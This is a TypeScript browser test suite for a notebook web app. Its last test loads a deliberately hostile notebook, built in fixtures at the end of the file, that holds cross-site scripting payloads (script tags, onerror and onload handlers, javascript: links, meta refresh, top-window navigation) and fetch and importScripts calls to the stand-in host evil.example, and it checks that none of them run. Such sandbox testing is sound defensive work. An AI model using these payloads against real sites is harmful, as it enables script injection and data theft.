import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { chromiumPath, complaintsOf, launchChromium, takeScreenshots } from '../tools/browser.ts'
import { hostAddress, type StartedProgram, startProgram } from '../tools/started-program.ts'

const root = fileURLToPath(new URL('../..', import.meta.url))

/* The notebook as a person uses it, in Debian's Chromium; skipped where that is not installed. */
describe.skipIf(chromiumPath === undefined)('the notebook in a browser', () => {
  let browser: Browser
  let context: BrowserContext
  let page: Page
  let complaints: string[]
  let folder: string
  let home: string
  let program: StartedProgram

  beforeAll(async () => {
    browser = await launchChromium()
  })
  afterAll(() => browser?.close())

  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'replilab-app-'))
    home = await mkdtemp(join(tmpdir(), 'replilab-home-'))
    context = await browser.newContext({ viewport: { width: 1280, height: 860 } })
    page = await context.newPage()
    complaints = complaintsOf(page)
  })
  afterEach(async () => {
    await context.close()
    await program.end('SIGKILL')
    await Promise.all([folder, home].map((path) => rm(path, { recursive: true })))
  })

  const serve = (port = 0) => {
    const launcher = join(root, 'main/cli/launch.mjs')
    program = startProgram(
      process.execPath,
      [launcher, 'serve', folder, '--port', String(port), '--no-open'],
      { env: { ...process.env, REPLILAB_HOME: home, CI: 'true' } },
    )
    return program.printed(hostAddress)
  }

  const button = (name: string) => page.getByRole('button', { name, exact: true })
  const codeCell = (index: number) => page.locator('section[aria-label="code cell"]').nth(index)
  const isIdle = () => page.getByRole('status').getByText('Ready').waitFor({ timeout: 60_000 })

  /** Writes a cell anew, as a person does who selects all of it. */
  async function type(index: number, text: string): Promise<void> {
    await codeCell(index).locator('pre.code').click()
    await codeCell(index).locator('.monaco-editor').waitFor()
    await page.keyboard.press('Control+A')
    await page.keyboard.insertText(text)
  }

  test('opens the gallery, a notebook of the library, and runs it to its table', async () => {
    await page.goto(await serve())
    await page.getByRole('heading', { name: 'Library' }).waitFor()
    await takeScreenshots(page, 'gallery')
    await page.getByRole('button', { name: /^Three ways to replicate/ }).click()
    await codeCell(0).waitFor()
    await takeScreenshots(page, 'notebook')
    await button('Run all').click()
    await page.getByRole('status').getByText('Running').waitFor()
    await isIdle()
    expect(await page.locator('.failure').count()).toBe(0)
    // What is far from the window is not drawn.
    await page.keyboard.press('End')
    const table = page.locator('table').filter({ hasText: 'leaderless' }).last()
    await table.scrollIntoViewIfNeeded()
    await table.getByText('leaderless').first().waitFor()
    await takeScreenshots(page, 'table')
    expect(complaints).toEqual([])
  })

  test('completes names across cells, and marks what depends on an edited cell', async () => {
    await page.goto(await serve())
    await button('New notebook').click()
    await type(0, 'const replicationFactor = 3')
    await page.keyboard.press('Alt+Enter')
    await codeCell(1).locator('.monaco-editor').waitFor()
    await page.keyboard.type('replicationFa')
    const suggestion = page.locator('.suggest-widget').getByText('replicationFactor')
    await suggestion.first().waitFor({ timeout: 30_000 })
    await takeScreenshots(page, 'completion')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Shift+Enter')
    await codeCell(1).getByText('3', { exact: true }).last().waitFor()
    await type(0, 'const replicationFactor = 5')
    await page.keyboard.press('Escape')
    await codeCell(1).getByText('stale').waitFor()
    await takeScreenshots(page, 'stale')
    expect(complaints).toEqual([])
  })

  test('stops an endless loop and keeps the variables', async () => {
    await page.goto(await serve())
    await button('New notebook').click()
    await type(0, 'let kept = 41\nwhile (true) kept += 0')
    await page.keyboard.press('Control+Enter')
    await codeCell(0).getByText('running').waitFor()
    await button('Stop').click()
    await codeCell(0).getByText('stopped; its variables are kept').waitFor()
    await page.keyboard.press('b')
    await type(1, 'kept + 1')
    await page.keyboard.press('Control+Enter')
    await codeCell(1).getByText('42', { exact: true }).waitFor()
    expect(complaints).toEqual([])
  })

  test('saves a notebook, and shows the same when it is opened again', async () => {
    await page.goto(await serve())
    await button('New notebook').click()
    await type(0, '1 + 1')
    await page.keyboard.press('Control+Enter')
    await codeCell(0).getByText('2', { exact: true }).waitFor()
    await button('Save').click()
    await page.getByLabel('Name').fill('sum')
    await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click()
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    const text = await readFile(join(folder, 'sum.ipynb'), 'utf8')
    expect(JSON.parse(text).cells[0]).toMatchObject({ source: ['1 + 1'], execution_count: 1 })
    await button('To the gallery').click()
    await page
      .getByRole('button', { name: /^sum\.ipynb/ })
      .first()
      .click()
    await codeCell(0).getByText('2', { exact: true }).waitFor()
    expect(await readFile(join(folder, 'sum.ipynb'), 'utf8')).toBe(text)
    expect(complaints).toEqual([])
  })

  test('loses nothing when the server is killed in the middle of editing', async () => {
    await writeFile(join(folder, 'mine.ipynb'), emptyNotebook)
    const address = await serve()
    await page.goto(address)
    await page.getByRole('button', { name: /^mine\.ipynb/ }).click()
    await type(0, 'const precious = 1')
    await page.waitForTimeout(1_500)
    await program.end('SIGKILL')
    await page.close()
    page = await context.newPage()
    await page.goto(await serve())
    await page.getByRole('heading', { name: 'Unsaved work' }).waitFor()
    await takeScreenshots(page, 'recovery')
    await button('Recover').click()
    await codeCell(0).getByText('precious').waitFor()
  })

  test('a hostile notebook changes nothing and reaches nothing', async () => {
    await writeFile(join(folder, 'hostile.ipynb'), hostileNotebook)
    const reached: string[] = []
    const address = await serve()
    await context.route(/evil\.example/, (route) => {
      reached.push(route.request().url())
      return route.abort()
    })
    await page.goto(address)
    await page.getByRole('button', { name: /^hostile\.ipynb/ }).click()
    await codeCell(0).waitFor()
    for (const index of [0, 1, 2]) {
      await codeCell(index).locator('pre.code').click()
      await page.keyboard.press('Control+Enter')
      await codeCell(index).getByText('failed').waitFor()
    }
    await page.waitForTimeout(1_000)
    expect(await page.evaluate('window.attacked')).toBeUndefined()
    expect(reached).toEqual([])
    expect(new URL(page.url()).origin).toBe(new URL(address).origin)
    expect(await page.locator('.failure').allInnerTexts()).toHaveLength(3)
    await takeScreenshots(page, 'hostile')
  })
})

const notebookOf = (cells: object[]) =>
  JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 })

const code = (id: string, source: string, outputs: object[] = []) => ({
  cell_type: 'code',
  id,
  metadata: {},
  source,
  outputs,
  execution_count: null,
})

const emptyNotebook = notebookOf([code('aaaaaaaa', '')])

const attack =
  'try { window.attacked = top.attacked = parent.attacked = 1 } catch {} fetch("https://evil.example/")'
const shown = (data: object) => [{ output_type: 'display_data', metadata: {}, data }]

const hostileNotebook = notebookOf([
  {
    cell_type: 'markdown',
    id: 'text',
    metadata: {},
    source: `# Hostile\n<script>${attack}</script><img src="https://evil.example/x" onerror='${attack}'>\n[x](javascript:attacked=1)\n<iframe src="https://evil.example/frame"></iframe><svg onload='${attack}'></svg>`,
  },
  code('fetches', 'await fetch("https://evil.example/cell")'),
  code('leaves', 'top.location = "https://evil.example/top"'),
  code('loads', 'importScripts("https://evil.example/script.js")'),
  {
    ...code(
      'shows',
      '',
      shown({
        'text/html': `<script>${attack}</script><img src=x onerror='${attack}'><meta http-equiv="refresh" content="0;url=https://evil.example/meta"><a href="https://evil.example/link" target="_top">x</a>`,
      }),
    ),
  },
  code(
    'draws',
    '',
    shown({
      'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload='${attack}'><script>${attack}</script><image href="https://evil.example/image"/></svg>`,
    }),
  ),
])
